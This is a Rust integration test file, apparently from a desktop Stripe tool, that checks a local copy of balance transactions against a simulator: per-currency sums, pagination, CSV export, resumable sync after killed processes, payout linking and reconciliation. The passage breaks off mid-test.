//! The local copy of balance transactions against the simulator over real
//! HTTP: exact to the minor unit in every currency, resumable after the sync
//! process is killed, and honest about a balance that does not reconcile.

use desk_core::balances::{
    export_csv, fetch_balance, sync, BalanceStore, Bucket, Cancel, Filter, PageRequest,
    PayoutState, Sort, SortColumn, SyncOptions, SyncOutcome, TimeRange, PAYOUT_PREVIEW,
};
use desk_core::money::{display_exponent, to_decimal};
use desk_core::stripe::{Auth, ClientConfig, StripeClient};
use desk_core::views::Mode;
use desk_core::Secret;
use rust_decimal::Decimal;
use serde_json::Value;
use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;
use std::process::{Command, Stdio};
use std::str::FromStr;
use std::sync::Arc;
use std::time::Duration;
use stripe_sim::{Charge, Failure, KeyAccess, SeedSpec, SimConfig, Simulator};

const KEY: &str = "sk_test_51BalancesTestKey000000000005678";
const ACCOUNT: &str = "acct_1BalanceShop";
const CURRENCIES: [&str; 5] = ["usd", "eur", "jpy", "kwd", "isk"];

async fn sim_with(n: usize) -> Simulator {
    let sim = Simulator::start(SimConfig::bundled()).await.unwrap();
    sim.add_account(ACCOUNT, "Balance Test Shop");
    sim.add_key(KEY, ACCOUNT, KeyAccess::Full);
    sim.seed_sample_data(
        ACCOUNT,
        SeedSpec {
            balance_transactions: n,
            rng_seed: 11,
            ..SeedSpec::default()
        },
    );
    sim
}

fn client(base: &str) -> StripeClient {
    let mut c = ClientConfig::new(base, base);
    c.retry.initial_delay = Duration::from_millis(5);
    c.retry.max_delay = Duration::from_millis(20);
    c.timeout = Duration::from_secs(5);
    c.test_mode_rate = 1000;
    StripeClient::new(c).unwrap()
}

fn auth() -> Auth {
    Auth {
        secret: Secret::new(KEY),
        mode: Mode::Test,
        stripe_account: None,
    }
}

fn fast_options() -> SyncOptions {
    SyncOptions {
        page_retry_delay: Duration::from_millis(10),
        ..SyncOptions::default()
    }
}

async fn sync_all(sim: &Simulator, store: &Arc<BalanceStore>) -> SyncOutcome {
    sync(
        &client(&sim.base_url()),
        &auth(),
        store.clone(),
        &fast_options(),
        &Cancel::new(),
        &|_| {},
    )
    .await
    .unwrap()
}

fn i(v: &Value, k: &str) -> i64 {
    v[k].as_i64().unwrap()
}

/// Per currency (count, amount, fee, net), summed independently of the store.
fn sums<'a>(rows: impl Iterator<Item = &'a Value>) -> BTreeMap<String, (u64, i64, i64, i64)> {
    let mut out: BTreeMap<String, (u64, i64, i64, i64)> = BTreeMap::new();
    for t in rows {
        let e = out
            .entry(t["currency"].as_str().unwrap().to_string())
            .or_default();
        e.0 += 1;
        e.1 += i(t, "amount");
        e.2 += i(t, "fee");
        e.3 += i(t, "net");
    }
    out
}

fn store_sums(store: &BalanceStore, filter: &Filter) -> BTreeMap<String, (u64, i64, i64, i64)> {
    store
        .totals(filter)
        .unwrap()
        .into_iter()
        .map(|t| (t.currency, (t.count, t.amount, t.fee, t.net)))
        .collect()
}

fn store_ids(store: &BalanceStore) -> Vec<String> {
    let mut ids = Vec::new();
    let mut req = PageRequest {
        limit: 1000,
        sort: Sort::newest_first(),
        ..PageRequest::default()
    };
    loop {
        let page = store.page(&req).unwrap();
        ids.extend(page.rows.iter().map(|r| r.id.clone()));
        match page.rows.last() {
            Some(last) if page.has_more => req.after = Some(last.cursor.clone()),
            _ => return ids,
        }
    }
}

fn assert_identical(sim: &Simulator, store: &BalanceStore) {
    let truth = sim.balance_transactions(ACCOUNT);
    let ids = store_ids(store);
    let unique: BTreeSet<&String> = ids.iter().collect();
    assert_eq!(unique.len(), ids.len(), "a row listed twice");
    let want: BTreeSet<String> = truth
        .iter()
        .map(|t| t["id"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(ids.len(), truth.len());
    assert_eq!(unique.into_iter().cloned().collect::<BTreeSet<_>>(), want);
    assert_eq!(store_sums(store, &Filter::default()), sums(truth.iter()));
}

#[tokio::test]
async fn the_copy_is_exact_in_every_currency() {
    let sim = sim_with(4_000).await;
    let dir = tempfile::tempdir().unwrap();
    let path = BalanceStore::path_for(dir.path(), ACCOUNT, Mode::Test);
    let store = Arc::new(BalanceStore::open(&path).unwrap());
    let outcome = sync_all(&sim, &store).await;
    assert!(outcome.completed);
    assert_eq!(outcome.stored, 4_000);
    assert!(outcome.payouts_linked > 0);
    assert!(store.is_indexed());
    assert_identical(&sim, &store);
    let truth = sim.balance_transactions(ACCOUNT);
    let all = sums(truth.iter());
    for c in CURRENCIES {
        assert!(all.contains_key(c), "{c} has rows");
    }

    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode(&path), 0o600);
        assert_eq!(mode(path.parent().unwrap()), 0o700);
    }

    // Totals for exactly a filter: a currency, a type, and created and available-on ranges.
    let now = sim.now();
    for c in CURRENCIES {
        let filter = Filter {
            currencies: vec![c.to_uppercase()],
            types: vec!["charge".into(), "refund".into()],
            created: TimeRange {
                from: Some(now - 300 * 86_400),
                to: Some(now - 30 * 86_400),
            },
            available_on: TimeRange {
                from: Some(now - 290 * 86_400),
                to: None,
            },
            ..Filter::default()
        };
        let want = sums(truth.iter().filter(|t| {
            let created = i(t, "created");
            t["currency"] == c
                && (t["type"] == "charge" || t["type"] == "refund")
                && created >= now - 300 * 86_400
                && created < now - 30 * 86_400
                && i(t, "available_on") >= now - 290 * 86_400
        }));
        assert!(!want.is_empty(), "{c}");
        assert_eq!(store_sums(&store, &filter), want, "{c}");
    }

    // Period summary: starting balance, activity by group, ending balance.
    let (from, to) = (now - 200 * 86_400, now - 100 * 86_400);
    let summaries = store
        .period_summary(&Filter {
            created: TimeRange {
                from: Some(from),
                to: Some(to),
            },
            ..Filter::default()
        })
        .unwrap();
    for s in &summaries {
        let of = |pred: &dyn Fn(&Value) -> bool| -> i64 {
            truth
                .iter()
                .filter(|t| t["currency"] == s.currency.as_str() && pred(t))
                .map(|t| i(t, "net"))
                .sum()
        };
        assert_eq!(s.starting_balance, Some(of(&|t| i(t, "created") < from)));
        assert_eq!(s.ending_balance, Some(of(&|t| i(t, "created") < to)));
        let activity: i64 = s.activity.iter().map(|a| a.sums.net).sum();
        assert_eq!(activity, s.total.net);
        assert_eq!(
            s.starting_balance.unwrap() + activity,
            s.ending_balance.unwrap()
        );
        let payouts = s.activity.iter().find(|a| a.category == "payout").unwrap();
        assert_eq!(payouts.label, "Payouts");
        assert_eq!(
            payouts.sums.net,
            of(&|t| t["type"] == "payout" && (from..to).contains(&i(t, "created")))
        );
    }
    assert_eq!(summaries.len(), all.len());

    // Every payout settled exactly its amount.
    for po in truth.iter().filter(|t| t["type"] == "payout") {
        let d = store.payout_detail(po["source"].as_str().unwrap()).unwrap();
        assert!(d.matches, "{d:?}");
        assert_eq!(d.payout_amount, Some(-i(po, "amount")));
    }

    // CSV: parse it back and sum the decimals per currency.
    let csv_path = dir.path().join("export.csv");
    let written = export_csv(
        &store,
        &Filter::default(),
        Sort::newest_first(),
        &csv_path,
        &Cancel::new(),
        |_| {},
    )
    .unwrap();
    assert_eq!(written, Some(4_000));
    let text = std::fs::read_to_string(&csv_path).unwrap();
    let text = text
        .strip_prefix('\u{feff}')
        .expect("a UTF-8 byte-order mark");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header = reader.headers().unwrap().clone();
    assert_eq!(&header[1], "created");
    assert_eq!(&header[8], "amount");
    let mut csv_sums: BTreeMap<String, (Decimal, Decimal, Decimal)> = BTreeMap::new();
    let mut lines = 0;
    for rec in reader.records() {
        let rec = rec.unwrap();
        lines += 1;
        let cur = rec[7].to_ascii_lowercase();
        // ISO 8601 in UTC.
        assert_eq!(rec[1].len(), 20, "{}", &rec[1]);
        assert!(rec[1].ends_with('Z') && &rec[1][10..11] == "T");
        for f in [8, 9, 10] {
            let decimals = rec[f].split_once('.').map_or(0, |(_, d)| d.len());
            assert_eq!(decimals as u32, display_exponent(&cur), "{cur} {}", &rec[f]);
        }
        let e = csv_sums.entry(cur).or_default();
        e.0 += Decimal::from_str(&rec[8]).unwrap();
        e.1 += Decimal::from_str(&rec[9]).unwrap();
        e.2 += Decimal::from_str(&rec[10]).unwrap();
    }
    assert_eq!(lines, 4_000);
    for (cur, (_, amount, fee, net)) in &all {
        let got = &csv_sums[cur];
        assert_eq!(got.0, to_decimal(*amount, cur), "{cur} amount");
        assert_eq!(got.1, to_decimal(*fee, cur), "{cur} fee");
        assert_eq!(got.2, to_decimal(*net, cur), "{cur} net");
    }

    // Cancelled halfway: no file at the target, no partial file left behind.
    let cancel = Cancel::new();
    let halfway = dir.path().join("cancelled.csv");
    let result = export_csv(
        &store,
        &Filter::default(),
        Sort::newest_first(),
        &halfway,
        &cancel,
        |p| {
            if p.written >= 1_000 {
                cancel.cancel();
            }
        },
    )
    .unwrap();
    assert_eq!(result, None);
    assert!(!halfway.exists());
    let leftovers: Vec<String> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".part"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");

    // Reconciliation holds, then shows the difference when Stripe's balance moves.
    let c = client(&sim.base_url());
    let (balance, at) = fetch_balance(&c, &auth()).await.unwrap();
    let rec = store.reconcile(&balance, at).unwrap();
    assert!(rec.matches, "{rec:?}");
    assert_eq!(
        rec.lines.len(),
        all.len() + usize::from(!all.contains_key("usd"))
    );
    sim.set_balance_skew(ACCOUNT, "kwd", -3_450);
    let (balance, at) = fetch_balance(&c, &auth()).await.unwrap();
    let rec = store.reconcile(&balance, at).unwrap();
    assert!(!rec.matches);
    for l in &rec.lines {
        assert_eq!(
            l.difference,
            Some(if l.currency == "kwd" { -3_450 } else { 0 }),
            "{l:?}"
        );
    }
}

#[tokio::test]
async fn pages_walk_every_sort_by_keyset_both_ways() {
    let sim = sim_with(1_500).await;
    let dir = tempfile::tempdir().unwrap();
    let store = Arc::new(BalanceStore::open(&dir.path().join("b.sqlite3")).unwrap());
    sync_all(&sim, &store).await;
    let truth = sim.balance_transactions(ACCOUNT);
    for (column, descending) in [
        (SortColumn::Amount, false),
        (SortColumn::Net, true),
        (SortColumn::Type, false),
        (SortColumn::Payout, true),
        (SortColumn::Description, false),
        (SortColumn::AvailableOn, true),
    ] {
        let filter = Filter {
            currencies: vec!["usd".into(), "jpy".into()],
            ..Filter::default()
        };
        let mut req = PageRequest {
            filter: filter.clone(),
            sort: Sort { column, descending },
            limit: 97,
            ..PageRequest::default()
        };
        let mut forward = Vec::new();
        let mut pages = Vec::new();
        loop {
            let page = store.page(&req).unwrap();
            forward.extend(page.rows.iter().cloned());
            pages.push(page.rows.clone());
            match page.rows.last() {
                Some(last) if page.has_more => req.after = Some(last.cursor.clone()),
                _ => break,
            }
        }
        let want = truth
            .iter()
            .filter(|t| t["currency"] == "usd" || t["currency"] == "jpy")
            .count();
        assert_eq!(forward.len(), want, "{column:?}");
        let ids: BTreeSet<&str> = forward.iter().map(|r| r.id.as_str()).collect();
        assert_eq!(ids.len(), want, "{column:?}: no row twice");
        for w in forward.windows(2) {
            let ord = w[0].cursor.0.partial_cmp_key(&w[1].cursor.0);
            assert!(
                if descending { ord.is_gt() } else { ord.is_lt() },
                "{column:?} out of order"
            );
        }
        // Scrolling back up from the last page gives the same pages.
        let mut back = PageRequest {
            filter,
            sort: Sort { column, descending },
            limit: 97,
            before: pages.last().unwrap().first().map(|r| r.cursor.clone()),
            ..PageRequest::default()
        };
        let page = store.page(&back).unwrap();
        assert_eq!(page.rows, pages[pages.len() - 2], "{column:?}");
        back.before = None;
        assert_eq!(store.page(&back).unwrap().rows, pages[0]);
    }

    // Text in the description, and the chart adds up to the totals.
    let filter = Filter {
        text: Some("müller".into()),
        ..Filter::default()
    };
    let hits: u64 = store.totals(&filter).unwrap().iter().map(|t| t.count).sum();
    let want = truth
        .iter()
        .filter(|t| t["description"].as_str().unwrap_or("").contains("Müller"))
        .count() as u64;
    // LIKE folds ASCII only: "müller" finds "Müller" through the ASCII letters around ü.
    assert_eq!(hits, want);
    assert!(hits > 0);
    for bucket in [Bucket::Day, Bucket::Week, Bucket::Month] {
        let series = store.chart(&Filter::default(), bucket).unwrap();
        let totals = store.totals(&Filter::default()).unwrap();
        for s in &series {
            let t = totals.iter().find(|t| t.currency == s.currency).unwrap();
            assert_eq!(s.points.iter().map(|p| p.net).sum::<i64>(), t.net);
            assert_eq!(s.points.iter().map(|p| p.gross).sum::<i64>(), t.amount);
            assert_eq!(s.points.iter().map(|p| p.fees).sum::<i64>(), t.fee);
            for w in s.points.windows(2) {
                assert!(w[0].start < w[1].start);
            }
        }
    }
}

trait KeyOrder {
    fn partial_cmp_key(&self, other: &Self) -> std::cmp::Ordering;
}

impl KeyOrder for Vec<desk_core::balances::CursorValue> {
    fn partial_cmp_key(&self, other: &Self) -> std::cmp::Ordering {
        use desk_core::balances::CursorValue::*;
        for (a, b) in self.iter().zip(other) {
            let o = match (a, b) {
                (Int(x), Int(y)) => x.cmp(y),
                (Text(x), Text(y)) => x.as_bytes().cmp(y.as_bytes()),
                _ => panic!("mixed key types"),
            };
            if o.is_ne() {
                return o;
            }
        }
        std::cmp::Ordering::Equal
    }
}

#[tokio::test]
async fn later_syncs_fetch_what_is_new_and_settle_pending_rows() {
    let sim = sim_with(2_000).await;
    let dir = tempfile::tempdir().unwrap();
    let store = Arc::new(BalanceStore::open(&dir.path().join("b.sqlite3")).unwrap());
    assert_eq!(store.stats().unwrap().timezone, None);
    sync_all(&sim, &store).await;
    // The account's time zone is kept with the copy.
    assert_eq!(store.stats().unwrap().timezone.as_deref(), Some("Etc/UTC"));
    let pending = store
        .totals(&Filter {
            statuses: vec!["pending".into()],
            ..Filter::default()
        })
        .unwrap();
    assert!(!pending.is_empty());

    sim.advance_clock(Duration::from_secs(3 * 86_400));
    sim.add_recent_balance_transactions(ACCOUNT, 150, Duration::from_secs(3 * 86_400), 5);
    // A zone changed in the Dashboard reaches the copy with the next sync.
    sim.set_timezone(ACCOUNT, "Asia/Tokyo");
    sim.clear_requests();
    let outcome = sync_all(&sim, &store).await;
    assert!(outcome.completed);
    assert_identical(&sim, &store);
    assert_eq!(
        store.stats().unwrap().timezone.as_deref(),
        Some("Asia/Tokyo")
    );
    // Only the recent days were fetched again, not the lifetime.
    let listed = sim
        .requests()
        .iter()
        .filter(|r| r.path == "/v1/balance_transactions" && !r.query.contains("payout="))
        .count();
    assert!(listed < 12, "{listed} pages for an incremental sync");
    let statuses: BTreeMap<String, String> = store_ids(&store)
        .into_iter()
        .map(|id| {
            let j = store.transaction_json(&id).unwrap().unwrap();
            (id, j["status"].as_str().unwrap().to_string())
        })
        .collect();
    for t in sim.balance_transactions(ACCOUNT) {
        assert_eq!(
            statuses[t["id"].as_str().unwrap()],
            t["status"].as_str().unwrap()
        );
    }
}

#[tokio::test]
async fn cancel_stops_and_the_next_sync_resumes() {
    let sim = sim_with(3_000).await;
    sim.set_latency(Duration::from_millis(40));
    let dir = tempfile::tempdir().unwrap();
    let store = Arc::new(BalanceStore::open(&dir.path().join("b.sqlite3")).unwrap());
    let cancel = Cancel::new();
    let c = client(&sim.base_url());
    let options = SyncOptions {
        workers: 2,
        ..fast_options()
    };
    let canceller = cancel.clone();
    let progressed = std::sync::atomic::AtomicU64::new(0);
    let outcome = sync(&c, &auth(), store.clone(), &options, &cancel, &|p| {
        progressed.store(p.stored, std::sync::atomic::Ordering::SeqCst);
        if p.pages >= 5 {
            canceller.cancel();
        }
    })
    .await
    .unwrap();
    assert!(!outcome.completed);
    let partial = store.stats().unwrap().transactions;
    assert!(partial > 0 && partial < 3_000, "{partial}");
    assert!(!store.stats().unwrap().complete);
    // A partial first copy has no query indexes yet, and still answers.
    assert!(!store.is_indexed());
    let partial_totals: u64 = store
        .totals(&Filter::default())
        .unwrap()
        .iter()
        .map(|t| t.count)
        .sum();
    assert_eq!(partial_totals, partial);
    let page = store
        .page(&PageRequest {
            limit: 10,
            sort: Sort {
                column: SortColumn::Net,
                descending: true,
            },
            ..PageRequest::default()
        })
        .unwrap();
    assert_eq!(page.rows.len(), 10);
    sim.set_latency(Duration::ZERO);
    assert!(sync_all(&sim, &store).await.completed);
    assert_identical(&sim, &store);
}

#[tokio::test]
async fn unreachable_stripe_stops_with_a_plain_message_and_keeps_the_copy() {
    let sim = sim_with(1_000).await;
    let dir = tempfile::tempdir().unwrap();
    let store = Arc::new(BalanceStore::open(&dir.path().join("b.sqlite3")).unwrap());
    sync_all(&sim, &store).await;
    let before = store.stats().unwrap();
    let sums_before = store_sums(&store, &Filter::default());

    // Nothing listens on this port any more.
    let closed = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap()
    };
    let options = SyncOptions {
        page_attempts: 2,
        ..fast_options()
    };
    let err = sync(
        &client(&format!("http://{closed}")),
        &auth(),
        store.clone(),
        &options,
        &Cancel::new(),
        &|_| {},
    )
    .await
    .unwrap_err();
    assert_eq!(
        err.plain_message(),
        "Could not reach Stripe. Check your internet connection and try again."
    );
    assert_eq!(store.stats().unwrap(), before);
    assert_eq!(store_sums(&store, &Filter::default()), sums_before);

    // Failing mid-sync keeps what was stored consistent, and a later sync completes it.
    sim.set_random_failures(1.0, &[Failure::ServerError500]);
    sim.add_recent_balance_transactions(ACCOUNT, 50, Duration::from_secs(3600), 9);
    let err = sync(
        &client(&sim.base_url()),
        &auth(),
        store.clone(),
        &options,
        &Cancel::new(),
        &|_| {},
    )
    .await
    .unwrap_err();
    assert_eq!(err.code(), "stripe_unavailable");
    sim.set_random_failures(0.0, &[]);
    assert!(sync_all(&sim, &store).await.completed);
    assert_identical(&sim, &store);
}

/// 20,000 transactions through 10% injected 5xx and dropped connections,
/// with the sync process SIGKILLed at random moments and restarted.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_sync_killed_at_random_moments_resumes_to_an_identical_copy() {
    use rand::Rng;
    let sim = sim_with(20_000).await;
    sim.set_random_failures(0.10, &[Failure::ServerError500, Failure::DropConnection]);
    sim.set_latency(Duration::from_millis(15));
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("killed.sqlite3");
    let base = sim.base_url();
    let run = move || {
        Command::new(env!("CARGO_BIN_EXE_desk-balances-sync"))
            .args(["--api-base", &base, "--db"])
            .arg(&db)
            // 100 requests/s: about four seconds for the whole sync, so
            // kills within the first second land midway.
            .args(["--workers", "6", "--rate", "100"])
            .env("STRIPE_DESK_SYNC_KEY", KEY)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap()
    };
    let mut killed_midway = 0;
    for _ in 0..6 {
        let mut child = run();
        let wait = rand::rng().random_range(200..1000);
        tokio::time::sleep(Duration::from_millis(wait)).await;
        if child.try_wait().unwrap().is_none() {
            child.kill().unwrap(); // SIGKILL: no chance to tidy up.
            child.wait().unwrap();
            killed_midway += 1;
        } else {
            break;
        }
    }
    let last = run.clone();
    let out = tokio::task::spawn_blocking(move || last().wait_with_output())
        .await
        .unwrap()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        killed_midway >= 2,
        "killed mid-sync only {killed_midway} times"
    );
    let store = BalanceStore::open(&dir.path().join("killed.sqlite3")).unwrap();
    assert!(store.stats().unwrap().complete);
    assert_identical(&sim, &store);
    let truth = sim.balance_transactions(ACCOUNT);
    for po in truth.iter().filter(|t| t["type"] == "payout") {
        let d = store.payout_detail(po["source"].as_str().unwrap()).unwrap();
        assert!(d.matches, "{}", d.payout);
    }
}

/// The entry points the window calls, through a `Desk` with a saved connection.
#[tokio::test]
async fn the_desk_syncs_queries_reconciles_exports_and_deletes_a_copy() {
    use desk_core::connections::secret_store::MemoryStore;
    use desk_core::desk::{Desk, DeskConfig};
    use desk_core::Bases;
    let sim = sim_with(1_200).await;
    let dir = tempfile::tempdir().unwrap();
    let base = sim.base_url();
    let mut cfg = DeskConfig::new(
        Bases {
            api: base.clone(),
            connect: base.clone(),
            marketplace: base.clone(),
        },
        dir.path().to_path_buf(),
    );
    cfg.client = ClientConfig::new(base.clone(), base.clone());
    cfg.client.test_mode_rate = 1000;
    let desk = Desk::new(cfg, Arc::new(MemoryStore::default())).unwrap();
    let id = desk.save_key_connection(KEY, false).await.unwrap().id;

    let seen = std::sync::Mutex::new(Vec::new());
    let outcome = desk
        .balances_sync(&id, |p| seen.lock().unwrap().push(p))
        .await
        .unwrap();
    assert!(outcome.completed);
    let seen = seen.into_inner().unwrap();
    assert!(!seen.is_empty());
    assert!(seen
        .windows(2)
        .all(|w| w[0].stored <= w[1].stored || w[0].phase != w[1].phase));
    let status = desk.balances_status(&id).await.unwrap();
    assert_eq!(status.transactions, 1_200);
    assert!(status.complete && status.last_synced_at.is_some());
    let path = BalanceStore::path_for(dir.path(), ACCOUNT, Mode::Test);
    assert!(path.exists());

    let page = desk
        .balances_page(
            &id,
            PageRequest {
                limit: 50,
                sort: Sort::newest_first(),
                ..PageRequest::default()
            },
        )
        .await
        .unwrap();
    assert_eq!(page.rows.len(), 50);
    let json = desk
        .balances_transaction(&id, page.rows[0].id.clone())
        .await
        .unwrap();
    assert_eq!(json["id"], page.rows[0].id.as_str());
    let totals = desk.balances_totals(&id, Filter::default()).await.unwrap();
    let truth = sim.balance_transactions(ACCOUNT);
    assert_eq!(
        totals.iter().map(|t| t.net).sum::<i64>(),
        truth.iter().map(|t| i(t, "net")).sum::<i64>()
    );
    assert!(desk.balances_reconcile(&id).await.unwrap().matches);

    let target = dir.path().join("out.csv");
    let rows = desk
        .balances_export(
            &id,
            Filter::default(),
            Sort::newest_first(),
            target.clone(),
            |_| {},
        )
        .await
        .unwrap();
    assert_eq!(rows, Some(1_200));
    assert!(target.exists());

    // A second connection to the same account (a platform's key acting on
    // it) reads the same copy: removing either one asks nothing about the
    // copy and cannot delete it.
    let platform_key = "sk_test_51BalancesPlatformKey00000009876";
    sim.add_account("acct_1BalancesPlatform", "Balances Platform");
    sim.add_key(platform_key, "acct_1BalancesPlatform", KeyAccess::Full);
    let second = desk
        .save_key_connection(platform_key, false)
        .await
        .unwrap()
        .id;
    assert!(desk.balances_has_copy(&id).unwrap(), "not shared yet");
    sim.connect_account("acct_1BalancesPlatform", ACCOUNT);
    desk.set_account_override(&second, Some(ACCOUNT))
        .await
        .unwrap();
    assert!(!desk.balances_has_copy(&id).unwrap());
    assert!(!desk.balances_has_copy(&second).unwrap());
    let refused = desk.balances_delete_copy(&id).unwrap_err();
    assert_eq!(refused.code(), "copy_in_use");
    assert!(path.exists());
    desk.remove_connection(&second).await.unwrap();

    assert!(desk.balances_has_copy(&id).unwrap());
    desk.balances_delete_copy(&id).unwrap();
    assert!(!path.exists());
}

fn synced_at(path: &Path) -> i64 {
    rusqlite::Connection::open(path)
        .unwrap()
        .query_row(
            "SELECT value FROM meta WHERE key = 'last_synced_at'",
            [],
            |r| r.get::<_, String>(0),
        )
        .unwrap()
        .parse()
        .unwrap()
}

/// Issue 15.2: a copy with no rows resumes from its last sync, not from now.
#[tokio::test]
async fn nothing_is_missed_after_an_empty_first_sync() {
    let sim = sim_with(0).await;
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("empty.sqlite3");
    let store = Arc::new(BalanceStore::open(&path).unwrap());
    assert!(sync_all(&sim, &store).await.completed);
    assert_eq!(store.stats().unwrap().transactions, 0);
    drop(store);
    // That first sync was two hours ago: say so in the copy, as time would.
    let two_hours_ago = synced_at(&path) - 2 * 3600;
    rusqlite::Connection::open(&path)
        .unwrap()
        .execute(
            "UPDATE meta SET value = ?1 WHERE key = 'last_synced_at'",
            [two_hours_ago.to_string()],
        )
        .unwrap();
    // A charge an hour ago: after that sync, before this one.
    let id = sim.add_charge(
        ACCOUNT,
        Charge {
            currency: "usd".into(),
            amount: 5_000,
            created: sim.now() - 3600,
            description: "Payment from Olivia Smith".into(),
        },
    );
    let store = Arc::new(BalanceStore::open(&path).unwrap());
    assert!(sync_all(&sim, &store).await.completed);
    assert_eq!(store_ids(&store), vec![id]);
}

/// Issue 15.3: a manual payout cannot be listed by Stripe's `payout` filter
/// ("for automatic Stripe payouts only"); the sync goes on without it.
#[tokio::test]
async fn a_manual_payout_does_not_stop_the_sync() {
    let sim = sim_with(1_500).await;
    let dir = tempfile::tempdir().unwrap();
    let store = Arc::new(BalanceStore::open(&dir.path().join("m.sqlite3")).unwrap());
    sync_all(&sim, &store).await;
    let manual = sim.add_manual_payout(ACCOUNT, "usd", 10_000);
    for manual_seen in [1, 0] {
        let outcome = sync(
            &client(&sim.base_url()),
            &auth(),
            store.clone(),
            &fast_options(),
            &Cancel::new(),
            &|_| {},
        )
        .await
        .expect("a manual payout never makes a sync fail");
        assert!(outcome.completed);
        // Recorded once: a later sync does not ask about it again.
        assert_eq!(outcome.payouts_manual, manual_seen);
    }
    assert_identical(&sim, &store);
    let d = store.payout_detail(&manual).unwrap();
    assert_eq!(d.payout_amount, Some(10_000));
    assert_eq!(d.state, PayoutState::Manual);
    assert_eq!((d.count, d.matches), (0, false));
    // Stripe was never asked to list it by the filter it refuses.
    let asked = sim
        .requests()
        .iter()
        .filter(|r| r.query.contains(&format!("payout={manual}")))
        .count();
    assert_eq!(asked, 0);
}

/// Issue 15.3: an automatic payout is linked once Stripe has reconciled it,
/// not while it is `in_progress` (the list is not complete then).
#[tokio::test]
async fn a_payout_still_being_reconciled_is_linked_on_a_later_sync() {
    let sim = sim_with(1_500).await;
    let dir = tempfile::tempdir().unwrap();
    let store = Arc::new(BalanceStore::open(&dir.path().join("r.sqlite3")).unwrap());
    sync_all(&sim, &store).await;
    sim.advance_clock(Duration::from_secs(5 * 86_400));
    let po = sim.add_automatic_payout(ACCOUNT, "usd", false);
    let outcome = sync_all(&sim, &store).await;
    assert!(outcome.completed);
    assert_eq!(outcome.payouts_reconciling, 1);
    let d = store.payout_detail(&po).unwrap();
    assert_eq!((d.state, d.count), (PayoutState::Reconciling, 0));
    sim.complete_payout_reconciliation(ACCOUNT, &po);
    let outcome = sync_all(&sim, &store).await;
    assert_eq!(
        (outcome.payouts_linked, outcome.payouts_reconciling),
        (1, 0)
    );
    let d = store.payout_detail(&po).unwrap();
    assert!(d.matches, "{po} links what it settled once reconciled");
    assert_eq!(d.state, PayoutState::Linked);
    assert_eq!(d.count as usize, sim.payout_settled(ACCOUNT, &po).len());
    assert!(d.settled_net > 0);
}

/// Issue 15.3: one payout that fails to link is shown as such; the rest link.
#[tokio::test]
async fn a_payout_that_fails_to_link_never_stops_the_rest() {
    let sim = sim_with(3_000).await;
    // A payout that settled more than a page (Stripe's 100), so its second page fails.
    let big = sim
        .balance_transactions(ACCOUNT)
        .iter()
        .filter(|t| t["type"] == "payout")
        .map(|t| t["source"].as_str().unwrap().to_string())
        .find(|po| sim.payout_settled(ACCOUNT, po).len() > 100)
        .expect("a payout that settled more than a page");
    let dir = tempfile::tempdir().unwrap();
    let store = Arc::new(BalanceStore::open(&dir.path().join("f.sqlite3")).unwrap());
    sim.fail_when(
        &format!("payout={big}&starting_after="),
        Failure::ServerError500,
    );
    let options = SyncOptions {
        page_attempts: 2,
        ..fast_options()
    };
    let outcome = sync(
        &client(&sim.base_url()),
        &auth(),
        store.clone(),
        &options,
        &Cancel::new(),
        &|_| {},
    )
    .await
    .expect("one payout's failure never fails the sync");
    assert!(outcome.completed);
    assert_eq!(outcome.payouts_failed, 1);
    assert_identical(&sim, &store);
    let d = store.payout_detail(&big).unwrap();
    assert!(!d.matches);
    assert_eq!(d.state, PayoutState::Failed);
    let message = d.message.unwrap();
    assert!(message.contains("Stripe"), "{message}");
    // Linked page by page as the pages came: the first page is there.
    assert_eq!(d.count, 100);
    // Every other payout is linked.
    for po in sim
        .balance_transactions(ACCOUNT)
        .iter()
        .filter(|t| t["type"] == "payout")
    {
        let id = po["source"].as_str().unwrap();
        if id != big {
            assert!(store.payout_detail(id).unwrap().matches, "{id}");
        }
    }
    // Stripe answers again: the next sync links it.
    sim.stop_failing();
    let outcome = sync_all(&sim, &store).await;
    assert_eq!((outcome.payouts_linked, outcome.payouts_failed), (1, 0));
    let d = store.payout_detail(&big).unwrap();
    assert!(d.matches);
    assert_eq!(d.count as usize, sim.payout_settled(ACCOUNT, &big).len());
}

/// Issue 15.4: Issuing spend, a reserve and a Connect reserve never make a
/// healthy account differ from Stripe's balance.
#[tokio::test]
async fn issuing_spend_and_reserves_do_not_make_a_healthy_account_differ() {
    let sim = sim_with(1_500).await;
    sim.add_issuing_activity(ACCOUNT, "usd", 500_000, 123_456);
    sim.hold_reserve(ACCOUNT, "usd", 77_700);
    sim.prefund_refunds_and_disputes(ACCOUNT, "eur", 10_000);
    sim.set_connect_reserved(ACCOUNT, "usd", 4_200);
    let dir = tempfile::tempdir().unwrap();
    let store = Arc::new(BalanceStore::open(&dir.path().join("i.sqlite3")).unwrap());
    sync_all(&sim, &store).await;
    assert_identical(&sim, &store);
    let (balance, at) = fetch_balance(&client(&sim.base_url()), &auth())
        .await
        .unwrap();
    let rec = store.reconcile(&balance, at).unwrap();
    assert!(rec.matches, "{rec:#?}");
    let line = |cur: &str, part: &str| {
        rec.lines
            .iter()
            .find(|l| l.currency == cur && l.part == part)
            .unwrap_or_else(|| panic!("no {cur} {part} line: {rec:#?}"))
            .clone()
    };
    let issuing = line("usd", "issuing");
    assert_eq!(issuing.in_copy, Some(500_000 - 123_456));
    assert_eq!(issuing.available, Some(500_000 - 123_456));
    assert_eq!(issuing.difference, Some(0));
    // The reserve has no figure in Stripe's balance; the Connect reserve none in the copy.
    let reserve = line("usd", "risk_reserved");
    assert_eq!(
        (reserve.in_copy, reserve.available, reserve.difference),
        (Some(77_700), None, None)
    );
